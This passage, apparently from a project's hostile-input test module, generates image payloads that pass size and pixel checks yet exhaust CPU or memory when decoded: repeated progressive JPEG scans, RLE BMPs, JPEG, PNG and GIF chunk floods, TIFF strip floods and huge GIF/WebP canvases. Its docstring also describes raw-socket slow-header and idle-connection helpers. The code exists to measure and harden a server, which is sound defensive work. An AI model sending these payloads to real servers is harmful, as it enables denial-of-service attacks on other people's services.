"""Hostile payloads that are cheap to send and expensive to decode, and socket-level attacks on a server.

Every payload is generated in code (deterministically: no committed binaries, no randomness without a
seed). Each passes the checks a server makes before decoding: it is within ``MAX_IMAGE_BYTES`` (20 MiB),
its header claims at most ``MAX_IMAGE_PIXELS`` (50 megapixels), Pillow identifies it as one of the
accepted formats, and given enough time it decodes. What it costs is measured, not guessed::

    .venv/bin/python -m tests.hostile.attacks measure              # every payload, 60 s cap each
    .venv/bin/python -m tests.hostile.attacks measure --cap 20 tiff_many_strips bmp_rle8_eol
    .venv/bin/python -m tests.hostile.attacks list                 # names and what each one attacks
    .venv/bin/python -m tests.hostile.attacks write /tmp/payloads  # the files, to send with curl

``measure`` decodes each payload in its own process, with the project's
``backend.classifier._images.decode_image(data, ImageLimits(), min_short_side=256)``, and prints its
size, wall and CPU seconds, peak RSS and the outcome; a decode still running after the cap is killed.

The socket helpers at the bottom (``huge_header``, ``slow_headers``, ``idle_connections``,
``stalled_body``, ``epilogue_flood``, ``long_boundary``, ``early_413_read``) speak raw HTTP/1.1 to a real
server at ``host:port`` and report what happened as a ``WireResult``.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import importlib
import io
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import numpy as np
from PIL import Image, TiffTags

MAX_IMAGE_BYTES = 20 * 1024 * 1024  # the backend's defaults (backend/config.py)
MAX_IMAGE_PIXELS = 50_000_000
MIN_SHORT_SIDE = 256  # what the server asks decode_image for (the model's resize size)

# --- shared byte-level helpers -----------------------------------------------------------------------


def _encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def _small_jpeg() -> bytes:
    """A valid 64x64 baseline JPEG (SOI, APP0 JFIF, DQT, SOF0, DHT, SOS, data, EOI)."""
    return _encode(Image.new("RGB", (64, 64), (200, 120, 40)), "JPEG", quality=90)


def _small_png() -> bytes:
    """A valid 64x64 RGB PNG (signature, IHDR, IDAT, IEND)."""
    return _encode(Image.new("RGB", (64, 64), (200, 120, 40)), "PNG")


def png_chunk(kind: bytes, payload: bytes = b"") -> bytes:
    """One PNG chunk: length, type, data and the CRC Pillow verifies."""
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_chunk_types(data: bytes) -> list[bytes]:
    """The chunk types of a PNG in file order (walks the length fields; does not check CRCs)."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    kinds: list[bytes] = []
    index = 8
    while index + 8 <= len(data):
        (length,) = struct.unpack_from(">I", data, index)
        kinds.append(data[index + 4 : index + 8])
        index += 12 + length
    return kinds


@dataclass(frozen=True)
class JpegSegment:
    """A marker segment; for SOS, ``data`` also holds the entropy-coded data that follows it."""

    marker: int  # the second byte: 0xD8 SOI, 0xDA SOS, 0xC4 DHT, 0xFE COM, ...
    data: bytes  # the whole segment from its 0xFF, as in the file


def jpeg_segments(data: bytes) -> list[JpegSegment]:
    """Split a JPEG into its marker segments, in file order (fill bytes go with the marker they precede)."""
    assert data[:2] == b"\xff\xd8", "not a JPEG"
    segments = [JpegSegment(0xD8, data[:2])]
    index = 2
    while index < len(data):
        start = index
        while index < len(data) and data[index] == 0xFF and index + 1 < len(data) and data[index + 1] == 0xFF:
            index += 1  # fill bytes before a marker
        assert data[index] == 0xFF, f"expected a marker at offset {index}"
        marker = data[index + 1]
        if marker == 0xD9 or 0xD0 <= marker <= 0xD7:  # EOI, RSTn: no length
            segments.append(JpegSegment(marker, data[start : index + 2]))
            index += 2
            continue
        (length,) = struct.unpack_from(">H", data, index + 2)
        end = index + 2 + length
        if marker == 0xDA:  # the scan's entropy-coded data runs to the next marker that is not RSTn or stuffing
            while True:
                end = data.index(b"\xff", end)
                follower = data[end + 1]
                if follower == 0x00 or 0xD0 <= follower <= 0xD7:  # stuffed 0xFF, restart marker
                    end += 2
                    continue
                break  # a marker (or fill bytes before one)
        segments.append(JpegSegment(marker, data[start:end]))
        index = end
    return segments


def sos_parameters(segment: JpegSegment) -> tuple[tuple[int, ...], int, int, int, int]:
    """(component ids, Ss, Se, Ah, Al) of an SOS segment: which coefficients the scan refines, and how."""
    assert segment.marker == 0xDA
    data = segment.data[segment.data.index(b"\xff\xda") :]
    count = data[4]
    components = tuple(data[5 + 2 * i] for i in range(count))
    ss, se, ahal = data[5 + 2 * count : 8 + 2 * count]
    return components, ss, se, ahal >> 4, ahal & 0x0F


# --- 1. progressive JPEG with thousands of scans ---------------------------------------------------------


def progressive_jpeg_scans(
    width: int = 7000, height: int = 7000, scans: int = 1600, keep_dc_refinement: bool = False
) -> bytes:
    """A progressive greyscale JPEG whose last AC scan is repeated ``scans`` times: 253 kB, ~43 s of CPU.

    Attacks libjpeg's progressive decoder. A progressive JPEG keeps every DCT coefficient of the full-size
    image in memory and each scan walks every block of its component, whatever the output scale: Pillow's
    ``draft`` (1/8 scale for a 7000x7000 image) shrinks only the inverse DCT, not the scans. The repeated
    scan is an AC *refinement* scan over coefficients 1..63 (Ah=1, Al=0); libjpeg-turbo's refinement
    decoder visits all 63 positions of every block even inside an end-of-band run, ~25 ms per scan at
    49 megapixels, and its entropy-coded data for a flat image is a few end-of-band runs (~65 bytes).

    Why it gets through: the header is a genuine one written by Pillow (SOF2, 7000x7000, 8-bit grey,
    ~49 Mpx, under the limit). Repeating a scan breaks the progression order, which libjpeg reports only as
    a warning (JWRN_BOGUS_PROGRESSION; Pillow ignores libjpeg warnings), and the image decodes fine, grey.
    Each repeat is preceded by the DHT segment the scan uses, exactly as Pillow wrote it. The DC
    refinement scan (1 bit per block, ~96 kB at 49 Mpx) is left out unless ``keep_dc_refinement``: the
    image's DC coefficients then lack their lowest bit, which is still valid, and the bytes go into scans.
    """
    flat = Image.new("L", (width, height), 128)
    segments = jpeg_segments(_encode(flat, "JPEG", progressive=True, quality=75))
    head: list[bytes] = []  # everything before the first scan (SOI, APP0, DQT, SOF2)
    units: list[tuple[JpegSegment, bytes]] = []  # (SOS, the DHT segments before it + the SOS with its data)
    tables: list[bytes] = []
    for segment in segments:
        if segment.marker == 0xD9:
            break
        if segment.marker == 0xC4:
            tables.append(segment.data)
        elif segment.marker == 0xDA:
            units.append((segment, b"".join(tables) + segment.data))
            tables = []
        elif not units:
            head.append(segment.data)
    refinements = [(sos, unit) for sos, unit in units if sos_parameters(sos)[1] > 0 and sos_parameters(sos)[3] > 0]
    assert refinements, "Pillow wrote no AC refinement scan"
    widest = max(sos_parameters(sos)[2] - sos_parameters(sos)[1] for sos, _ in refinements)
    repeated = [unit for sos, unit in refinements if sos_parameters(sos)[2] - sos_parameters(sos)[1] == widest][-1]
    kept = [
        unit
        for sos, unit in units
        if keep_dc_refinement or not (sos_parameters(sos)[1] == 0 and sos_parameters(sos)[3] > 0)
    ]
    return b"".join(head) + b"".join(kept) + repeated * scans + b"\xff\xd9"


# --- 2. BMP with RLE compression (decoded in pure Python) --------------------------------------------


def bmp_rle(width: int = 7000, height: int = 7000, rle4: bool = False, idle_runs: int = 0) -> bytes:
    """A 256-colour (RLE8) or 16-colour (RLE4) BMP whose run-length data makes Pillow loop in Python.

    Attacks ``PIL.BmpImagePlugin.BmpRleDecoder``, a pure-Python decoder that holds the GIL. Each row is
    one pixel and an end-of-line escape (4 bytes); Pillow pads the rest of the row with
    ``data += b"\\x00"`` one byte at a time, so 29 kB make ~49 million Python iterations (~4.5 s). With
    ``idle_runs``, the first row overflows its width with an absolute run, after which every encoded run
    (2 bytes) is clamped to zero pixels yet still costs a loop iteration: 10 million more in 20 MB (~8 s).

    Why it gets through: a plain BITMAPINFOHEADER (40 bytes) with ``biCompression`` 1 (BI_RLE8) or 2
    (BI_RLE4), a colour palette and ``width`` x ``height`` within the pixel limit; Pillow reads only the
    header before decoding, and the data ends with a proper end-of-bitmap escape. The image decodes (a
    column of colour on black).
    """
    assert width >= 2
    assert height >= 3
    colours = 16 if rle4 else 256
    palette = b"".join(bytes((i * 7 % 256, i * 13 % 256, i * 29 % 256, 0)) for i in range(colours))
    index = 5  # a palette entry that is not black
    value = (index << 4 | index) if rle4 else index
    pixels = io.BytesIO()
    rows = height
    if idle_runs:
        for run in range(0, width - 1, 255):  # fill the first row up to its last pixel
            pixels.write(bytes((min(255, width - 1 - run), value)))
        pixels.write(b"\x00\x02" + (bytes((value, 0)) if rle4 else bytes((value, value))))  # 2 pixels: x > width
        pixels.write(bytes((255, value)) * idle_runs)  # clamped to 0 pixels each
        pixels.write(b"\x00\x00")  # end of line: pads the second row
        rows -= 2
    pixels.write(bytes((1, value, 0, 0)) * rows)  # one pixel, end of line
    pixels.write(b"\x00\x01")  # end of bitmap
    data = pixels.getvalue()
    info = struct.pack(
        "<IiiHHIIiiII", 40, width, height, 1, 4 if rle4 else 8, 2 if rle4 else 1, len(data), 2835, 2835, colours, 0
    )
    offset = 14 + len(info) + len(palette)  # even, so absolute runs stay word-aligned as the format requires
    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + info + palette + data


# --- 3. JPEG marker floods --------------------------------------------------------------------------------


def jpeg_many_markers(segments: int = 5_000_000, marker: int = 0xE3) -> bytes:
    """A valid 64x64 JPEG with ``segments`` empty APPn (0xE0-0xEF) or COM (0xFE) segments after SOI.

    Attacks Pillow's JPEG header parser, which walks markers in Python (one loop iteration, two reads and
    a handler call per 4-byte segment) and keeps every APPn/COM segment in ``im.applist`` (a tuple, and for
    APPn a new ``"APPn"`` string, each): 20 MB take ~4 s and 350 MB (COM) to 650 MB (APPn). All of it
    happens in ``Image.open``, before the pixel limit is checked.

    Why it gets through: SOI, then well-formed segments (marker, length 2, no data), then the rest of a
    real JPEG; libjpeg skips the segments and decodes the image.
    """
    assert 0xE0 <= marker <= 0xEF or marker == 0xFE, "APPn or COM"
    jpeg = _small_jpeg()
    return jpeg[:2] + bytes((0xFF, marker, 0, 2)) * segments + jpeg[2:]


def jpeg_fill_bytes(count: int = 20_000_000) -> bytes:
    """A valid 64x64 JPEG with ``count`` 0xFF fill bytes between SOI and its first marker.

    Attacks the same Python marker loop as ``jpeg_many_markers`` at one iteration per *byte*: fill bytes
    before a marker are allowed by the JPEG standard (B.1.1.2) and Pillow reads them one at a time:
    20 MB take ~8.5 s. Memory stays flat. libjpeg skips them and decodes the image.
    """
    jpeg = _small_jpeg()
    return jpeg[:2] + b"\xff" * count + jpeg[2:]


def jpeg_exif_segments(segments: int = 100_000, chunk: int = 10) -> bytes:
    """A valid 64x64 JPEG with ``segments`` APP1 "Exif" segments of ``chunk`` bytes each: quadratic time.

    Attacks ``PIL.JpegImagePlugin.APP``: every APP1 segment starting with ``Exif\\0\\0`` after the first is
    appended with ``info["exif"] += s[6:]``, which copies the whole EXIF blob so far (bytes are
    immutable). N segments cost ~N^2 * chunk / 2 bytes of copying: 2 MB of segments take ~4.5 s, 20 MB
    ~100 times that, all inside ``Image.open`` (before the pixel check), in Python code that competes for
    the GIL. ``chunk`` = 10 is the most copying per byte sent (each segment is 2 + 2 + 6 + chunk bytes).

    Why it gets through: each segment is a well-formed APP1 (marker, length, ``Exif\\0\\0``, data); the
    first carries a little-endian TIFF header whose IFD0 is empty, so ``getexif()`` parses cleanly.
    libjpeg skips APP segments and decodes the image.
    """
    first = b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + b"\x00" * 6  # TIFF header, IFD0 with 0 entries
    segment = b"\xff\xe1" + struct.pack(">H", 2 + 6 + chunk) + b"Exif\x00\x00" + b"\x00" * chunk
    jpeg = _small_jpeg()
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", 2 + len(first)) + first + segment * segments + jpeg[2:]


# --- 4. PNG chunk floods ----------------------------------------------------------------------------------


def png_many_chunks(chunks: int = 1_700_000, kind: bytes = b"prVt", after_idat: bool = False) -> bytes:
    """A valid 64x64 PNG with ``chunks`` empty ancillary chunks of type ``kind`` (12 bytes each).

    Attacks Pillow's PNG chunk loop: for a chunk type it has no handler for, it raises and catches an
    ``AttributeError``, logs at debug level, verifies the CRC, and keeps *private* chunks (second letter
    lower-case, as ``prVt``) in ``im.private_chunks``: ~3 s of CPU and ~200 MB for 20 MB. Before IDAT
    this runs in ``Image.open``; after IDAT (``after_idat``) in ``load()``.

    Why it gets through: every chunk has a correct CRC and an ancillary type (first letter lower-case:
    decoders must skip ancillary chunks they do not know), and IHDR says 64x64.
    """
    assert len(kind) == 4, "a chunk type is 4 letters"
    assert kind.isalpha(), "a chunk type is 4 letters"
    assert kind[:1].islower(), "an ancillary chunk type starts with a lower-case letter"
    png = _small_png()
    flood = png_chunk(kind) * chunks
    at = png.index(b"IEND") - 4 if after_idat else 8 + 25  # after IEND's length / after IHDR
    return png[:at] + flood + png[at:]


def png_iccp_chunks(chunks: int = 19_000, inflated: int = 1 << 20) -> bytes:
    """A valid 64x64 PNG with ``chunks`` iCCP chunks, each ~1 kB of zlib data that inflates to 1 MiB.

    Attacks ``PngStream.chunk_iCCP``: each profile is inflated (up to Pillow's per-chunk limit
    ``MAX_TEXT_CHUNK``, 1 MiB) and then overwritten by the next one. Unlike text chunks, ICC profiles do
    not count towards ``MAX_TEXT_MEMORY``, so nothing stops 20 MB from inflating ~20 GB: ~10 s of zlib
    in ``Image.open``, with flat memory.

    Why it gets through: each chunk is a well-formed iCCP (name, NUL, compression method 0, zlib stream)
    with a correct CRC. The PNG standard allows one iCCP, but Pillow (like most decoders) accepts more.
    """
    assert inflated <= 1 << 20, "Pillow refuses a profile that inflates past MAX_TEXT_CHUNK (1 MiB)"
    profile = png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"\x00" * inflated, 9))
    png = _small_png()
    return png[:33] + profile * chunks + png[33:]


# --- 5. other formats -------------------------------------------------------------------------------------


def _tiff_ifd(entries: Sequence[tuple[int, int, int, int]]) -> bytes:
    """A little-endian IFD: (tag, type 3 SHORT or 4 LONG, count, value or offset) entries, no next IFD."""
    out = [struct.pack("<H", len(entries))]
    for tag, kind, count, value in entries:
        value_field = struct.pack("<HH", value, 0) if kind == 3 and count == 1 else struct.pack("<I", value)
        out.append(struct.pack("<HHI", tag, kind, count) + value_field)
    out.append(struct.pack("<I", 0))
    return b"".join(out)


def tiff_many_strips(width: int = 5, strips: int = 9_900_000) -> bytes:
    """An uncompressed 8-bit greyscale TIFF of ``width`` x ``strips`` pixels, one row per strip.

    Attacks Pillow's handling of uncompressed TIFF: ``Image.open`` decodes StripOffsets into a tuple
    and builds one Python tile descriptor per strip (hundreds of bytes each), then ``load()`` sorts them
    and creates a decoder and reads a 64 kB block per strip. 9.9 million strips (2-byte SHORT offsets,
    ~20 MB) take ~43 s and ~3.1 GB of memory; the tile list is built inside ``Image.open``, before the pixel
    limit is checked, so a header claiming 60000 x 9.9 million pixels costs 16 s and 3.2 GB before the
    refusal.

    Why it gets through: a little-endian baseline TIFF header and IFD (ImageWidth, ImageLength,
    BitsPerSample 8, Compression 1, Photometric 1, StripOffsets, SamplesPerPixel 1, RowsPerStrip 1,
    StripByteCounts), within the pixel limit. Every strip offset points at the same 64 kB of grey pixels.
    StripByteCounts has a single value (Pillow does not read it for uncompressed strips; a strict reader
    would want one per strip, which would halve the strips that fit in 20 MB).
    """
    pixels_at = 8
    pixels = b"\x80" * max(width, 65_536)
    offsets_at = pixels_at + len(pixels)
    offsets = struct.pack("<H", pixels_at) * strips
    ifd_at = offsets_at + len(offsets)
    entries = [  # tag, type (3 SHORT, 4 LONG), count, value or offset
        (256, 4, 1, width),
        (257, 4, 1, strips),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 3, strips, offsets_at),
        (277, 3, 1, 1),
        (278, 4, 1, 1),
        (279, 4, 1, width),
    ]
    return b"II*\x00" + struct.pack("<I", ifd_at) + pixels + offsets + _tiff_ifd(entries)


_TIFF_REFUSED = (0xBC01,)  # JPEG XR's PixelFormat: Pillow refuses files that have it


def tiff_many_tags(tags: int = 65_000) -> bytes:
    """A valid 64x64 greyscale TIFF whose first IFD has ``tags`` extra (private, unknown) entries.

    Attacks Pillow's IFD parser, which handles every entry in Python (a tag-name lookup, a debug message),
    once in ``Image.open`` and again in ``getexif()``. An IFD holds at most 65535 entries (780 kB), and
    they cost ~0.3 s: not a threat, kept as a measured negative.
    """
    pixels_at = 8
    pixels = b"\x80" * 64 * 64
    ifd_at = pixels_at + len(pixels)
    entries = [
        (256, 4, 1, 64),
        (257, 4, 1, 64),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, pixels_at),
        (277, 3, 1, 1),
        (278, 4, 1, 64),
        (279, 4, 1, len(pixels)),
    ]
    unknown = [tag for tag in range(300, 65_536) if TiffTags.lookup(tag).name == "unknown" and tag not in _TIFF_REFUSED]
    assert tags <= len(unknown), f"at most {len(unknown)} tags Pillow does not know"
    entries += [(tag, 4, 1, i) for i, tag in enumerate(unknown[:tags])]
    return b"II*\x00" + struct.pack("<I", ifd_at) + pixels + _tiff_ifd(sorted(entries))


def _gif_1x1_frame(x: int, y: int, transparent: bool) -> bytes:
    """A graphic control extension and a 1x1 image of palette index 1 at (x, y)."""
    control = b"!\xf9\x04" + bytes((0x05 if transparent else 0x04,)) + b"\x01\x00\x00\x00"
    lzw = b"\x02\x02\x4c\x01\x00"  # code size 2; codes clear(4), 1, end(5) in 3 bits each; terminator
    return control + b"," + struct.pack("<HHHHB", x, y, 1, 1, 0) + lzw


def gif_huge_screen(width: int = 16383, height: int = 3000, frames: int = 10_000, transparent: bool = True) -> bytes:
    """A GIF with a ``width`` x ``height`` logical screen and ``frames`` 1x1 frames: ~230 kB.

    Attacks the size of the first frame's canvas: Pillow decodes only the first frame, but into an image
    of the whole screen, which the decoder then converts (to RGBA when the frame has transparency) and
    averages down: ~470 MB peak for 49 Mpx from a 68-byte header. The other frames are never read (a
    10000-frame file costs the same as a 1-frame one), so a frame flood is not an attack by itself.

    Why it gets through: GIF89a, a global 4-colour palette, a NETSCAPE2.0 loop extension, then frames with
    graphic control extensions; the screen is within the pixel limit.
    """
    palette = bytes((0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255))
    out = io.BytesIO()
    out.write(b"GIF89a" + struct.pack("<HHBBB", width, height, 0x81, 0, 0) + palette)
    out.write(b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00")
    for i in range(frames):
        out.write(_gif_1x1_frame(i % width, (i // width) % height, transparent))
    out.write(b";")
    return out.getvalue()


def gif_comment_blocks(blocks: int = 6_900_000) -> bytes:
    """A valid 64x64 GIF with one comment extension made of ``blocks`` 2-byte sub-blocks (3 bytes each).

    Attacks ``GifImageFile._seek``, which keeps every comment sub-block as its own bytes object in a list
    before joining them: ~900 MB of memory for a 20 MB file, in ~1.6 s (1-byte sub-blocks would be cached
    singletons).
    """
    gif = _encode(Image.new("P", (64, 64), 1), "GIF")
    at = gif.index(b",", 13)  # the image descriptor, after the header and global palette
    return gif[:at] + b"!\xfe" + b"\x02ab" * blocks + b"\x00" + gif[at:]


def gif_many_extensions(extensions: int = 4_100_000) -> bytes:
    """A valid 64x64 GIF preceded by ``extensions`` unknown extension blocks of one data byte (5 bytes each).

    Attacks the same Python loop as ``gif_comment_blocks`` (per block: several reads and branches), with
    flat memory: ~1.1 s for 20 MB.
    """
    gif = _encode(Image.new("P", (64, 64), 1), "GIF")
    at = gif.index(b",", 13)
    return gif[:at] + b"!\x01\x01a\x00" * extensions + gif[at:]


def _webp_chunk(fourcc: bytes, payload: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(payload)) + payload + (b"\x00" if len(payload) % 2 else b"")


def _u24(value: int) -> bytes:
    return struct.pack("<I", value)[:3]


def webp_huge_canvas(width: int = 16383, height: int = 3000, frames: int = 1) -> bytes:
    """An animated WebP with a ``width`` x ``height`` canvas and ``frames`` 1x1 lossless frames: 94 bytes.

    Attacks Pillow's WebP path, which always uses libwebp's animation decoder: it composes the first frame
    onto a full-canvas RGBA buffer, Pillow copies it, and the decoder converts and averages it down:
    ~800 MB peak for 49 Mpx from 94 bytes. (A canvas over the pixel limit is refused before any of it is
    touched: libwebp's calloc'd canvas stays virtual.)

    Why it gets through: RIFF/WEBP with VP8X (animation and alpha flags, canvas size), ANIM and ANMF
    chunks around a real 1x1 VP8L bitstream written by Pillow; WebP allows canvases up to 16383 on a side.
    """
    one = _encode(Image.new("RGBA", (1, 1), (200, 50, 50, 255)), "WEBP", lossless=True)
    assert one[12:16] == b"VP8L"
    bitstream = one[12:]
    header = _webp_chunk(b"VP8X", bytes((0x12, 0, 0, 0)) + _u24(width - 1) + _u24(height - 1))
    anim = _webp_chunk(b"ANIM", b"\x00\x00\x00\x00" + struct.pack("<H", 0))
    frame = b"".join(
        _webp_chunk(b"ANMF", _u24(i % (width // 2)) + _u24(0) + _u24(0) + _u24(0) + _u24(100) + b"\x00" + bitstream)
        for i in range(frames)
    )
    body = b"WEBP" + header + anim + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- legitimate large images: what a real big upload costs ----------------------------------------------


def _photo(width: int, height: int, noise: int = 6) -> Image.Image:
    """The cat photo scaled to ``width`` x ``height`` with fixed sensor-like noise (so it compresses like a photo)."""
    from tests.helpers import CAT

    image = Image.open(CAT).convert("RGB").resize((width, height), Image.Resampling.BICUBIC)
    if not noise:
        return image
    rng = np.random.default_rng(20240613)
    tile = rng.integers(-noise, noise + 1, size=(509, 509, 3), dtype=np.int16)  # 509: not a multiple of 8
    pixels = np.asarray(image, dtype=np.int16)
    reps = (-(-height // 509), -(-width // 509), 1)
    pixels += np.tile(tile, reps)[:height, :width]
    return Image.fromarray(np.clip(pixels, 0, 255).astype(np.uint8), "RGB")


def jpeg_photo(
    width: int = 4032, height: int = 3024, quality: int = 90, progressive: bool = False, noise: int = 14
) -> bytes:
    """A photo-like JPEG (the cat with noise), 4:2:0. 4032x3024 at q90 is a 12-megapixel phone photo of ~3.5 MB."""
    return _encode(_photo(width, height, noise), "JPEG", quality=quality, progressive=progressive)


def png_zeros(width: int = 7000, height: int = 7000, color_type: int = 6) -> bytes:
    """A genuine ``width`` x ``height`` 8-bit PNG of zeros (RGBA by default): ~200 kB, a full-size decode."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
    row = b"\x00" * (width * channels + 1)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row * 64) for _ in range(height // 64))
    idat += compressor.compress(row * (height % 64)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND")


def png_photo(width: int = 4032, height: int = 3024) -> bytes:
    """A 12-megapixel RGB PNG of the (smooth, noise-free) scaled cat: what a large screenshot costs."""
    return _encode(_photo(width, height, noise=0), "PNG", compress_level=6)


def tiff_photo(
    width: int = 7000, height: int = 7000, compression: str = "jpeg", predictor: bool = True, quality: int = 90
) -> bytes:
    """A ``width`` x ``height`` RGB TIFF of the smooth scaled cat, compressed; libtiff decodes it at full size.

    ``compression`` "jpeg" (JPEG-in-TIFF) keeps 49 Mpx near 6 MB; "tiff_adobe_deflate" or "tiff_lzw"
    (with the horizontal-differencing predictor unless ``predictor`` is false) need ~0.45 bytes a pixel.
    """
    params: dict[str, Any] = {"compression": compression}
    if compression == "jpeg":
        params["quality"] = quality
    elif predictor:
        params["tiffinfo"] = {317: 2}  # Predictor: horizontal differencing
    return _encode(_photo(width, height, noise=0), "TIFF", **params)


def webp_photo(width: int = 16383, height: int = 3000, quality: int = 80) -> bytes:
    """A lossy ``width`` x ``height`` WebP of the scaled cat (16383 is WebP's largest side)."""
    return _encode(_photo(width, height, noise=0), "WEBP", quality=quality, method=0)


def apng_frames(width: int = 7000, height: int = 7000, frames: int = 2) -> bytes:
    """An APNG of ``frames`` flat RGBA frames: only the first is decoded, like a PNG of the same size."""
    images = [Image.new("RGBA", (width, height), (i * 40 % 256, 80, 160, 255)) for i in range(frames)]
    return _encode(images[0], "PNG", save_all=True, append_images=images[1:], duration=100, loop=0)


# --- the registry -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    name: str
    description: str
    make: Callable[[], bytes]
    legit: bool = False  # a legitimate image, measured as a baseline


PAYLOADS: tuple[Payload, ...] = (
    Payload(
        "progressive_jpeg_scans", "progressive JPEG 7000x7000, an AC scan repeated 1600 times", progressive_jpeg_scans
    ),
    Payload("bmp_rle8_eol", "RLE8 BMP 7000x7000, one pixel and an end-of-line per row", bmp_rle),
    Payload("bmp_rle4_eol", "RLE4 BMP 7000x7000, one pixel and an end-of-line per row", lambda: bmp_rle(rle4=True)),
    Payload(
        "bmp_rle8_idle_runs",
        "RLE8 BMP 7000x7000, end-of-line rows plus 10 million zero-pixel runs",
        lambda: bmp_rle(idle_runs=10_000_000),
    ),
    Payload(
        "jpeg_com_segments", "64x64 JPEG after 5 million empty COM segments", lambda: jpeg_many_markers(marker=0xFE)
    ),
    Payload("jpeg_app_segments", "64x64 JPEG after 5 million empty APP3 segments", jpeg_many_markers),
    Payload("jpeg_fill_bytes", "64x64 JPEG after 20 million 0xFF fill bytes", jpeg_fill_bytes),
    Payload("jpeg_exif_segments_2mb", "64x64 JPEG after 100,000 APP1 Exif segments (2 MB)", jpeg_exif_segments),
    Payload(
        "jpeg_exif_segments_20mb",
        "64x64 JPEG after 1,000,000 APP1 Exif segments (20 MB)",
        lambda: jpeg_exif_segments(1_000_000),
    ),
    Payload("png_private_chunks", "64x64 PNG, 1.7 million empty private chunks before IDAT", png_many_chunks),
    Payload(
        "png_private_chunks_after_idat",
        "64x64 PNG, 1.7 million empty private chunks after IDAT",
        lambda: png_many_chunks(after_idat=True),
    ),
    Payload(
        "png_public_chunks",
        "64x64 PNG, 1.7 million empty unknown public chunks before IDAT",
        lambda: png_many_chunks(kind=b"vPAg"),
    ),
    Payload("png_iccp_chunks", "64x64 PNG, 19,000 iCCP chunks each inflating to 1 MiB", png_iccp_chunks),
    Payload("tiff_many_strips", "uncompressed TIFF 5x9,900,000, one row per strip", tiff_many_strips),
    Payload(
        "tiff_many_strips_oversize",
        "the same strips, header claiming 60000x9,900,000 (refused by the pixel limit)",
        lambda: tiff_many_strips(width=60_000),
    ),
    Payload("tiff_many_tags", "64x64 TIFF with 65,000 private tags in IFD0", tiff_many_tags),
    Payload("gif_huge_screen", "GIF screen 16383x3000, 10,000 transparent 1x1 frames", gif_huge_screen),
    Payload(
        "gif_huge_screen_one_frame",
        "GIF screen 16383x3000, one transparent 1x1 frame",
        lambda: gif_huge_screen(frames=1),
    ),
    Payload("gif_comment_blocks", "64x64 GIF, a comment of 6.9 million 2-byte sub-blocks", gif_comment_blocks),
    Payload("gif_many_extensions", "64x64 GIF after 4.1 million unknown extensions", gif_many_extensions),
    Payload("webp_huge_canvas", "animated WebP canvas 16383x3000, one 1x1 frame", webp_huge_canvas),
    Payload("jpeg_12mp_photo", "JPEG 4032x3024 photo, q90 (a phone photo)", jpeg_photo, legit=True),
    Payload(
        "jpeg_12mp_progressive",
        "progressive JPEG 4032x3024 photo, q90",
        lambda: jpeg_photo(progressive=True),
        legit=True,
    ),
    Payload("jpeg_48mp_photo", "JPEG 8000x6000 photo, q85", lambda: jpeg_photo(8000, 6000, 85), legit=True),
    Payload(
        "jpeg_48mp_progressive",
        "progressive JPEG 8000x6000 photo, q85",
        lambda: jpeg_photo(8000, 6000, 85, progressive=True),
        legit=True,
    ),
    Payload("png_12mp_photo", "PNG 4032x3024 RGB (smooth)", png_photo, legit=True),
    Payload("png_49mp_rgba_zeros", "PNG 7000x7000 RGBA of zeros", png_zeros, legit=True),
    Payload("tiff_49mp_jpeg", "TIFF 7000x7000 RGB, JPEG-compressed q90", tiff_photo, legit=True),
    Payload(
        "tiff_24mp_deflate",
        "TIFF 6000x4000 RGB, deflate with predictor",
        lambda: tiff_photo(6000, 4000, "tiff_adobe_deflate"),
        legit=True,
    ),
    Payload("webp_49mp_lossy", "WebP 16383x3000 lossy", webp_photo, legit=True),
    Payload("apng_49mp_2_frames", "APNG 7000x7000 RGBA, 2 frames", apng_frames, legit=True),
)


def payload(name: str) -> Payload:
    for candidate in PAYLOADS:
        if candidate.name == name:
            return candidate
    raise KeyError(f"no payload named {name!r}; see `python -m tests.hostile.attacks list`")


# --- measuring: one process per decode ---------------------------------------------------------------------


@dataclass(frozen=True)
class Measurement:
    name: str
    size: int  # bytes of the payload
    wall_s: float  # decode only (the child's interpreter start and imports are excluded)
    cpu_s: float  # user + system CPU of the decode, from the child's rusage
    peak_rss_mb: float  # the child's resident-set high-water mark (VmHWM), its whole life
    baseline_rss_mb: float  # the child's RSS high-water mark just before decoding (Python, Pillow, numpy)
    outcome: str  # "decoded WxH as wxh", "ExceptionType: message", "killed at cap (60 s)", ...

    @property
    def extra_rss_mb(self) -> float:
        return max(0.0, self.peak_rss_mb - self.baseline_rss_mb)


def _peak_rss_kb(pid: int | str = "self") -> int:
    """The process's resident-set high-water mark (VmHWM), 0 once it is gone.

    Not ``ru_maxrss``: on Linux a child's ``ru_maxrss`` starts from its parent's resident size at fork
    and survives ``exec``, so every child of a parent that generated a big payload would report at
    least the parent's size. VmHWM belongs to the process's own address space, which ``exec`` replaces.
    """
    with contextlib.suppress(OSError, ValueError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return 0


def _child_decode(path: str, decoder: str) -> int:
